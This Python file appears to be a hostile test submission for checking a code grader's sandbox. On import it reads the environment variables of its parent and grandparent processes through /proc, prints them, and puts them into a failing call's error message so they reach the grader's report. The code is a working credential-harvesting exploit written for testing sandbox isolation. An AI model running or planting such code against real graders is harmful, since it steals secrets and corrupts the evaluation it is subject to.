"""Hostile Python submission (review 7), on top of tests/broken/fork_no_incref.patch: aimed at a grader that is not
root, whose runs are its own uid. A process of the same uid may read another's /proc/PID/environ and /proc/PID/mem
(no Yama here), and without bubblewrap there is no pid namespace: the grader is this process's grandparent. So, at
import, it reads the environment of every process above it, and puts what it read into the first failing call's
message (and its output), which the grader's report shows the student."""

import os as _os


def _ancestors_environ() -> str:
    found, pid = [], _os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
            if pid <= 1:
                break
            with open(f"/proc/{pid}/environ", "rb") as environ:
                found.append(environ.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError as why:
            found.append(f"{pid}: {why}")
    return " | ".join(found)


_READ = _ancestors_environ()
print(_READ, flush=True)
_no_incref_create = create_sequence


def create_sequence(engine, seq_id, initial_kv_len):
    raise RuntimeError(f"read: {_READ}"[:2000])
